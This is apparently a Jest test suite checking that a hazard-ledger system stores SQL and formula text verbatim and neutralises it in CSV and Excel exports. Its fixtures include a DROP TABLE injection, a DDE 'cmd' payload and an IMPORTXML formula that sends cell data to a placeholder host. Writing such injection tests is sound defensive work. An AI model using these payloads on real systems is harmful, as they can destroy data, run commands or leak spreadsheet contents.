import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { startTestServer, type TestServer } from '../support/server.js';
import { creditCode, get, patch, post, type Client } from '../support/ledger-api.js';
import { cli } from '../support/cli.js';
import { SAMPLE_BUNDLE } from '../support/databases.js';
import { importBundle } from '../../api/src/bundle/import-bundle.js';

// SQL and spreadsheet formulas typed into text fields are data: the API stores them as typed and
// answers them back unchanged, and the files a spreadsheet opens (the CSV exports and the 调度表 .xlsx)
// write them so that no spreadsheet runs them: a leading apostrophe on text that starts with = + - @
// tab or CR (OWASP), string cells and never formula cells in the workbook. spreadsheet-text.ts says why.

const FORMULA_START = /^[=+\-@\t\r]/;
const CC = creditCode('91140525MA0000001');
const ENTERPRISE = { name: '=HYPERLINK("http://x","y")', mainLeader: `'; DROP TABLE hazards; --` };
const HAZARD = { ledgerNo: 'INJ-0001', description: `+cmd|' /C calc'!A0`, category: '@SUM(1)', signedBy: `1' OR '1'='1` };
const PLAN = { responsiblePerson: '-2+3', measures: '\t=1+1', contingencyPlan: '\r=1+1', fundsWan: 1.5, deadline: '2023-08-20', signedBy: '=1+1' };
const TRACKER = '=IMPORTXML(CONCAT("http://x/?",A1),"//a")';
// a unit can only come from a bundle: its name and code are the text of the .xlsx
const UNIT = { code: '@SUM(1)', name: '=HYPERLINK("http://x","y")' };
// a ledger number that is itself a formula: keys are text too
const FORMULA_KEY = '-2+3';

const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;

/** A bundle folder with one new unit (its parent the city), one enterprise and one hazard of formula text. */
function injectionBundle(dir: string): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'units.csv'), `code,name,level,parent_code\n${quote(UNIT.code)},${quote(UNIT.name)},county,140500\n`);
  fs.writeFileSync(path.join(dir, 'enterprises.csv'), 'credit_code,name,unit_code,industry,risk_level,high_risk,main_leader\n'
    + `${CC},${quote(ENTERPRISE.name)},140525,hw_operator,larger,false,${quote(ENTERPRISE.mainLeader)}\n`);
  fs.writeFileSync(path.join(dir, 'hazards.csv'), 'ledger_no,enterprise_credit_code,unit_code,source,found_on,description,category\n'
    + `${quote(FORMULA_KEY)},${CC},140525,self_check,2023-08-01,${quote(HAZARD.description)},${quote(HAZARD.category)}\n`);
}

/** Every cell of a CSV export, unquoted: none may start like a formula; returns the records. */
function safeCsv(text: string): string[][] {
  const records = parse(text, { bom: true }) as string[][];
  for (const r of records) for (const c of r) expect([c, FORMULA_START.test(c)]).toEqual([c, false]);
  return records;
}

/** Every cell of every sheet: no formula cell, no text that starts like one. Returns how many text cells were looked at. */
function safeWorkbook(wb: ExcelJS.Workbook): { texts: string[] } {
  const texts: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    expect([ws.name, cell.address, cell.type === ExcelJS.ValueType.Formula]).toEqual([ws.name, cell.address, false]);
    if (typeof cell.value === 'string') {
      texts.push(cell.value);
      expect([ws.name, cell.address, FORMULA_START.test(cell.value)]).toEqual([ws.name, cell.address, false]);
    }
  })));
  return { texts };
}

describe('SQL and formulas in text fields: stored as text, exported so that no spreadsheet runs them', () => {
  let s: TestServer;
  let admin: Client;
  beforeAll(async () => {
    s = await startTestServer({ engine: 'embedded' });
    admin = await s.login('admin', s.adminPassword);
  });
  afterAll(async () => { await s?.close(); });

  it('stores the text through the API as it was typed and answers it back unchanged', async () => {
    expect((await post(admin, '/api/enterprises', { creditCode: CC, unitCode: '140525', industry: 'hw_operator', riskLevel: 'larger', highRisk: false, ...ENTERPRISE })).status).toBe(201);
    expect((await post(admin, '/api/hazards', { ...HAZARD, enterpriseCreditCode: CC, unitCode: '140525', source: 'self_check', foundOn: '2023-08-01' })).status).toBe(201);
    const step = async (what: string, body: unknown) => {
      const r = await post(admin, `/api/hazards/${HAZARD.ledgerNo}/${what}`, body);
      expect([what, r.status, r.body.message]).toEqual([what, 200, undefined]);
    };
    await step('confirm', { step: 'enterprise', signedBy: ENTERPRISE.mainLeader, on: '2023-08-02' });
    await step('confirm', { step: 'unit', signedBy: '张三', on: '2023-08-02' });
    await step('list', { level: 'county', tracker: TRACKER, signedBy: '张三', listedOn: '2023-08-03' });
    await step('plan', PLAN);
    // a correction through PATCH is stored as typed too
    expect((await patch(admin, `/api/enterprises/${CC}`, { mainLeader: ENTERPRISE.mainLeader })).status).toBe(200);

    const e = (await get<Record<string, unknown>>(admin, `/api/enterprises/${CC}`)).body;
    expect({ name: e.name, mainLeader: e.mainLeader }).toEqual(ENTERPRISE);
    const h = (await get<Record<string, unknown>>(admin, `/api/hazards/${HAZARD.ledgerNo}`)).body;
    const { signedBy: _s, ...planFields } = PLAN;
    expect({ description: h.description, category: h.category, tracker: h.tracker, ...Object.fromEntries(Object.keys(planFields).map((k) => [k, h[k]])) })
      .toEqual({ description: HAZARD.description, category: HAZARD.category, tracker: TRACKER, ...planFields });
    const signers = (h.signoffs as { signer: string }[]).map((x) => x.signer);
    expect(signers).toEqual(expect.arrayContaining([HAZARD.signedBy, PLAN.signedBy, ENTERPRISE.mainLeader]));

    // in the database exactly as typed, and the tables the SQL names are all still there
    const [row] = await s.t.db.dataSource.query(`SELECT description, category, tracker, responsible_person, measures, contingency_plan FROM hazards WHERE ledger_no = $1`, [HAZARD.ledgerNo]);
    expect(row).toEqual({ description: HAZARD.description, category: HAZARD.category, tracker: TRACKER, responsible_person: PLAN.responsiblePerson, measures: PLAN.measures, contingency_plan: PLAN.contingencyPlan });
    const [{ n }] = await s.t.db.dataSource.query(`SELECT count(*)::int AS n FROM hazards`);
    expect(n).toBeGreaterThan(100);
  });

  it('hazards.csv: every such cell starts with an apostrophe, and no cell of the file starts like a formula', async () => {
    const r = await admin('/api/exports/hazards.csv?month=2023-08&codes=true');
    expect(r.status).toBe(200);
    const [header, ...rows] = safeCsv(await r.text());
    const mine = Object.fromEntries(header.map((c, i) => [c, rows.find((x) => x[0] === HAZARD.ledgerNo)![i]]));
    expect(mine).toMatchObject({ description: `'${HAZARD.description}`, category: `'${HAZARD.category}`, tracker: `'${TRACKER}`,
      responsible_person: `'${PLAN.responsiblePerson}`, measures: `'${PLAN.measures}`, contingency_plan: `'${PLAN.contingencyPlan}`, funds_wan: '1.5' });
  });

  it('dispatch.xlsx and dispatch.csv: a unit named and coded as formulas is text in string cells, with the apostrophe', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hw-inject-'));
    injectionBundle(dir);
    fs.rmSync(path.join(dir, 'enterprises.csv'));
    fs.rmSync(path.join(dir, 'hazards.csv'));
    await importBundle(s.t.db.dataSource, dir, { actor: 'test' });
    fs.rmSync(dir, { recursive: true, force: true });
    const units = (await get<{ code: string; name: string }[]>(admin, '/api/units')).body;
    expect(units.find((u) => u.code === UNIT.code)?.name).toBe(UNIT.name);

    const x = await admin('/api/exports/dispatch.xlsx?month=2023-08');
    expect(x.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await x.arrayBuffer()) as unknown as ExcelJS.Buffer);
    const { texts } = safeWorkbook(wb);
    expect(texts).toEqual(expect.arrayContaining([`'${UNIT.name}`, `'${UNIT.code}`]));

    const c = await admin('/api/exports/dispatch.csv?month=2023-08');
    const rows = safeCsv(await c.text());
    expect(rows.find((r) => r[2] === `'${UNIT.code}`)?.[3]).toBe(`'${UNIT.name}`);
  });
});

describe('the CLI exports (export csv, export dispatch) of a bundle that carries formulas', () => {
  let tmp: string;
  let env: Record<string, string>;
  const file = (name: string) => path.join(tmp, name);
  beforeAll(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hw-inject-cli-'));
    env = { DATA_DIR: file('data') };
    expect(cli(['import', SAMPLE_BUNDLE], env).status).toBe(0);
    injectionBundle(file('bundle'));
    const r = cli(['import', file('bundle')], env);
    expect([r.stderr, r.status]).toEqual(['', 0]);
  });
  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  it('export csv --what hazards: the formula cells carry the apostrophe, no cell starts like a formula', () => {
    expect(cli(['export', 'csv', '--what', 'hazards', '--month', '2023-08', '--codes', '--out', file('h.csv')], env).status).toBe(0);
    const [header, ...rows] = safeCsv(fs.readFileSync(file('h.csv'), 'utf8'));
    const mine = rows.find((r) => r[0] === `'${FORMULA_KEY}`)!;
    expect(mine[header.indexOf('description')]).toBe(`'${HAZARD.description}`);
    expect(mine[header.indexOf('category')]).toBe(`'${HAZARD.category}`);
  });

  it('export dispatch: no formula cell in the workbook, the unit\'s name and code as neutralised text', async () => {
    expect(cli(['export', 'dispatch', '--month', '2023-08', '--out', file('d.xlsx')], env).status).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file('d.xlsx'));
    const { texts } = safeWorkbook(wb);
    expect(texts).toEqual(expect.arrayContaining([`'${UNIT.name}`, `'${UNIT.code}`]));
  });
});
